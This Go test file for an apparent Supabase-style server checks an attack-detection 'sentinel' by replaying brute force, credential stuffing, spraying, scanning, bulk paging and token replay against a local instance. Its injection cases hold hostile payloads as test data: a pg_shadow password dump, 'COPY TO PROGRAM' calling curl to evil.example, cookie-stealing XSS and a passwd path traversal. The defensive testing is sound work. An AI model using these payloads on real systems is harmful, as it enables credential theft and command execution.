package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/magflock/mobo/internal/sentinel"
)

// sentinelConfig lets the tests speak from many addresses (through
// 127.0.0.1 as a trusted proxy), turns auth's own rate limits off so that
// the sentinel is what answers, and lowers DataGuard's absolute cap to a
// size a test can page through.
const sentinelConfig = `
[http]
trusted_proxies = ["127.0.0.1/32"]

[auth]
refresh_token_reuse_interval = "1ms"

[auth.rate_limit]
disabled = true

[sentinel.dataguard]
cap_rows = 300

# Spraying differs from stuffing by its pace (few tries per account over
# an hour); a test cannot wait out stuffing's 10 minutes, so it sprays
# from a whole network, where stuffing is set not to fire.
[sentinel.authsentry]
stuffing_net_accounts = 1000
`

// from sends a request as the client at ip and returns the status, the
// decoded JSON answer and the headers.
func (s *server) from(t *testing.T, ip, method, path, key, bearer, body string) (int, map[string]any, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, s.url+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Forwarded-For", ip)
	req.Header.Set("apikey", key)
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var m map[string]any
	_ = json.NewDecoder(resp.Body).Decode(&m)
	return resp.StatusCode, m, resp.Header
}

// sentinelRefused reports whether an answer is the sentinel's refusal, in
// PostgREST's or Supabase Auth's shape.
func sentinelRefused(status int, body map[string]any) bool {
	return status == http.StatusForbidden && (body["code"] == "sentinel_blocked" || body["error_code"] == "sentinel_blocked")
}

// attack sends requests made by next(i) until the sentinel refuses one,
// and returns how many were sent (the refused one included); it fails
// the test past max.
func attack(t *testing.T, max int, next func(i int) (int, map[string]any, http.Header)) int {
	t.Helper()
	for i := 1; i <= max; i++ {
		st, body, h := next(i)
		if sentinelRefused(st, body) {
			if h.Get("Retry-After") == "" {
				t.Errorf("the refusal has no Retry-After")
			}
			return i
		}
	}
	t.Fatalf("not refused within %d requests", max)
	return 0
}

// TestSentinelScenarios replays attacks against a running mobo: each is
// refused within a stated number of requests, while benign traffic from
// the same network is never refused; shadow mode records without
// refusing; an unblock works at once.
func TestSentinelScenarios(t *testing.T) {
	t.Parallel()
	dir := dataDir(t)
	cfg := filepath.Join(t.TempDir(), "mobo.toml")
	if err := os.WriteFile(cfg, []byte(sentinelConfig), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServer(t, dir, "--config", cfg)
	k := s.keys(t)
	anon, admin := k["anon key"], k["admin key"]
	db := projectDB(t, dir, "default")
	mustExec(t, db, `
		create table public.items (id serial primary key, name text not null);
		insert into public.items (name) select 'item ' || g from generate_series(1, 1000) g;
		alter table public.items enable row level security;
		create policy items_read on public.items for select to anon, authenticated using (true);
		create function public.echo_name(name text) returns text language sql immutable as 'select name';
		notify pgrst, 'reload schema';`)
	for _, u := range []string{"alice", "bob", "carol", "dave"} {
		st, out, _ := s.from(t, "10.9.9.9", "POST", "/auth/v1/signup", anon, "", fmt.Sprintf(`{"email":"%s@example.com","password":"correct horse %s"}`, u, u))
		if st != http.StatusOK {
			t.Fatalf("signup %s: %d %v", u, st, out)
		}
	}
	signIn := func(ip, user, password string) (int, map[string]any, http.Header) {
		return s.from(t, ip, "POST", "/auth/v1/token?grant_type=password", anon, "", fmt.Sprintf(`{"email":"%s@example.com","password":"%s"}`, user, password))
	}
	benign := func(ip string) {
		t.Helper()
		if st, out, _ := s.from(t, ip, "GET", "/rest/v1/items?id=eq.1", anon, "", ""); st != http.StatusOK {
			t.Errorf("benign read from %s: %d %v", ip, st, out)
		}
	}

	t.Run("brute force", func(t *testing.T) {
		n := attack(t, 11, func(int) (int, map[string]any, http.Header) { return signIn("203.0.113.10", "alice", "wrong guess") })
		t.Logf("brute force refused at request %d", n)
		benign("203.0.113.11")
		if st, out, _ := signIn("203.0.113.11", "bob", "correct horse bob"); st != http.StatusOK {
			t.Errorf("a neighbour's sign-in to another account: %d %v", st, out)
		}
		// The attacked account is locked for everyone for a while…
		if st, out, _ := signIn("203.0.113.12", "alice", "correct horse alice"); !sentinelRefused(st, out) {
			t.Errorf("the attacked account was not locked: %d %v", st, out)
		}
		// …until an operator lifts it, at once.
		if out, err := cli(dir, "", "sentinel", "unblock", "account", "alice@example.com"); err != nil {
			t.Fatalf("unblock: %v\n%s", err, out)
		}
		if st, out, _ := signIn("203.0.113.12", "alice", "correct horse alice"); st != http.StatusOK {
			t.Errorf("after unblock: %d %v", st, out)
		}
	})
	t.Run("credential stuffing", func(t *testing.T) {
		n := attack(t, 21, func(i int) (int, map[string]any, http.Header) {
			return s.from(t, "198.51.100.20", "POST", "/auth/v1/token?grant_type=password", anon, "",
				fmt.Sprintf(`{"email":"victim%d@example.org","password":"Summer2026!"}`, i))
		})
		t.Logf("credential stuffing refused at request %d", n)
		benign("198.51.100.21")
		if st, _, _ := s.from(t, "198.51.100.20", "GET", "/rest/v1/items?id=eq.1", anon, "", ""); st != http.StatusForbidden {
			t.Errorf("the stuffing address can still read: %d", st)
		}
	})
	t.Run("injection", func(t *testing.T) {
		// Each attack value is refused before its statement runs, in
		// PostgREST's shape; the third blocks the address.
		for i, q := range []string{
			"/rest/v1/items?name=eq." + url.QueryEscape("x' UNION SELECT usename, passwd FROM pg_shadow--"),
			"/rest/v1/items?name=eq." + url.QueryEscape("1; COPY items TO PROGRAM 'curl evil.example'"),
			"/rest/v1/items?name=eq." + url.QueryEscape("<svg/onload=alert(document.cookie)>"),
		} {
			st, out, _ := s.from(t, "100.66.0.10", "GET", q, anon, "", "")
			if !sentinelRefused(st, out) || !strings.Contains(fmt.Sprint(out["message"]), "looks like an attack") {
				t.Fatalf("attack %d: %d %v", i+1, st, out)
			}
		}
		st, out, _ := s.from(t, "100.66.0.10", "GET", "/rest/v1/items?id=eq.1", anon, "", "")
		if !sentinelRefused(st, out) || !strings.Contains(fmt.Sprint(out["message"]), "blocked") {
			t.Errorf("after three attacks the address still reads: %d %v", st, out)
		}
		benign("100.66.0.11")
		// Values that look like SQL or markup but are not attacks pass.
		for _, v := range []string{"O'Brien", "select the best option; drop me a line", "x < y and y > z", "eq.5"} {
			if st, out, _ := s.from(t, "100.66.0.12", "GET", "/rest/v1/items?name=eq."+url.QueryEscape(v), anon, "", ""); st != http.StatusOK {
				t.Errorf("benign value %q: %d %v", v, st, out)
			}
		}
		body := `{"name":"Mary O'Connor <mary@example.com> wrote: 5 > 3, so update the list and select a winner"}`
		if st, out, _ := s.from(t, "100.66.0.12", "POST", "/rest/v1/rpc/echo_name", anon, "", body); st == http.StatusForbidden {
			t.Errorf("a benign body was refused: %v", out)
		}
	})
	t.Run("password spraying", func(t *testing.T) {
		// One common password, one try per account, each address of a
		// /24 trying two accounts: no address alone looks like stuffing.
		n := attack(t, 61, func(i int) (int, map[string]any, http.Header) {
			return s.from(t, fmt.Sprintf("100.65.7.%d", 10+i/2), "POST", "/auth/v1/token?grant_type=password", anon, "",
				fmt.Sprintf(`{"email":"staff%d@example.net","password":"Winter2026!"}`, i))
		})
		t.Logf("password spraying refused at request %d", n)
		if st, _, _ := s.from(t, "100.65.7.200", "GET", "/rest/v1/items?id=eq.1", anon, "", ""); st != http.StatusForbidden {
			t.Errorf("the spraying network is not blocked: %d", st)
		}
		benign("100.65.8.10") // the next network
	})
	t.Run("scanning", func(t *testing.T) {
		n := attack(t, 16, func(i int) (int, map[string]any, http.Header) {
			return s.from(t, "192.0.2.30", "GET", fmt.Sprintf("/rest/v1/backup_%d", i), anon, "", "")
		})
		t.Logf("scanning refused at request %d", n)
		benign("192.0.2.31")
	})
	t.Run("paginated exfiltration", func(t *testing.T) {
		n := attack(t, 5, func(i int) (int, map[string]any, http.Header) {
			return s.from(t, "100.64.0.40", "GET", fmt.Sprintf("/rest/v1/items?select=id,name&order=id&limit=100&offset=%d", (i-1)*100), anon, "", "")
		})
		t.Logf("paginated exfiltration refused at page %d", n)
		for page := range 2 {
			if st, _, _ := s.from(t, "100.64.0.41", "GET", fmt.Sprintf("/rest/v1/items?limit=100&offset=%d", page*100), anon, "", ""); st != http.StatusOK {
				t.Errorf("a neighbour paging twice: %d", st)
			}
		}
	})
	t.Run("refresh token replay", func(t *testing.T) {
		st, session, _ := signIn("100.64.1.50", "carol", "correct horse carol")
		if st != http.StatusOK {
			t.Fatalf("sign in: %d %v", st, session)
		}
		old, _ := session["refresh_token"].(string)
		access, _ := session["access_token"].(string)
		refresh := func(tok string) (int, map[string]any, http.Header) {
			return s.from(t, "100.64.1.50", "POST", "/auth/v1/token?grant_type=refresh_token", anon, "", fmt.Sprintf(`{"refresh_token":"%s"}`, tok))
		}
		if st, out, _ := refresh(old); st != http.StatusOK {
			t.Fatalf("refresh: %d %v", st, out)
		}
		time.Sleep(10 * time.Millisecond) // past the reuse interval
		if st, out, _ := refresh(old); st == http.StatusOK {
			t.Fatalf("a replayed token was accepted: %v", out)
		}
		// The user is blocked: its access token no longer reads.
		deadline := time.Now().Add(5 * time.Second)
		for {
			st, out, _ := s.from(t, "100.64.1.51", "GET", "/rest/v1/items?id=eq.1", anon, access, "")
			if sentinelRefused(st, out) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("the replayed user still reads: %d %v", st, out)
			}
			time.Sleep(20 * time.Millisecond)
		}
		benign("100.64.1.51")
	})
	t.Run("shadow mode records without refusing", func(t *testing.T) {
		if out, err := cli(dir, "", "sentinel", "mode", "authsentry", "shadow"); err != nil {
			t.Fatalf("mode: %v\n%s", err, out)
		}
		defer func() { _, _ = cli(dir, "", "sentinel", "mode", "authsentry", "enforce") }()
		for i := range 15 {
			if st, out, _ := signIn("100.64.2.60", "dave", "wrong guess"); sentinelRefused(st, out) {
				t.Fatalf("refused at attempt %d in shadow mode", i+1)
			}
		}
		if st, out, _ := signIn("100.64.2.60", "dave", "correct horse dave"); st != http.StatusOK {
			t.Errorf("in shadow mode the owner cannot sign in: %d %v", st, out)
		}
	})

	// Every attack is an incident, the shadow one marked so; none from
	// the benign neighbours.
	req, _ := http.NewRequest("GET", s.url+"/admin/v1/sentinel/incidents?limit=100", nil)
	req.Header.Set("Authorization", "Bearer "+admin)
	deadline := time.Now().Add(10 * time.Second)
	for {
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var incs []struct {
			Scenario string `json:"scenario"`
			Subject  string `json:"subject"`
			Shadow   bool   `json:"shadow"`
		}
		err = json.NewDecoder(resp.Body).Decode(&incs)
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, i := range incs {
			got[i.Scenario+" "+fmt.Sprint(i.Shadow)] = true
			for _, n := range []string{"203.0.113.11", "198.51.100.21", "192.0.2.31", "100.64.0.41", "100.64.1.51"} {
				if i.Subject == n {
					t.Errorf("a benign neighbour has an incident: %+v", i)
				}
			}
		}
		want := []string{"injection false", "brute_force false", "credential_stuffing false", "password_spraying false", "scanning false", "exfiltration false", "token_replay false", "brute_force true"}
		missing := []string{}
		for _, w := range want {
			if !got[w] {
				missing = append(missing, w)
			}
		}
		if len(missing) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("incidents missing %v; have %+v", missing, incs)
		}
		time.Sleep(100 * time.Millisecond)
	}
	out, err := cli(dir, "", "sentinel", "incidents")
	if err != nil || !strings.Contains(out, "credential_stuffing") {
		t.Errorf("mobo sentinel incidents: %v\n%s", err, out)
	}
}

func TestSentinelClassify(t *testing.T) {
	t.Parallel()
	c, err := sentinel.NewClassifier(sentinel.Config{})
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	in := "hello world\n<img src=x onerror=alert(1)>\n..%2f..%2fetc%2fpasswd\nO'Brien\n1; COPY t TO PROGRAM 'id'\n"
	if err := classifyLines(strings.NewReader(in), &out, c, false, false); err != nil {
		t.Fatal(err)
	}
	var labels []string
	for line := range strings.SplitSeq(strings.TrimSpace(out.String()), "\n") {
		labels = append(labels, strings.Split(line, "\t")[0])
	}
	if got := strings.Join(labels, " "); got != "benign xss traversal benign sqli" {
		t.Errorf("labels %q", got)
	}
	out.Reset()
	if err := classifyLines(strings.NewReader("\"a\\nb <script>x</script>\"\n{\"value\":\"fine\"}\n"), &out, c, true, true); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"label":"xss"`) || !strings.Contains(out.String(), `"value":"fine"`) {
		t.Errorf("jsonl: %s", out.String())
	}
	if err := classifyLines(strings.NewReader("not json\n"), &out, c, true, false); err == nil {
		t.Error("a bad --jsonl line was accepted")
	}
}
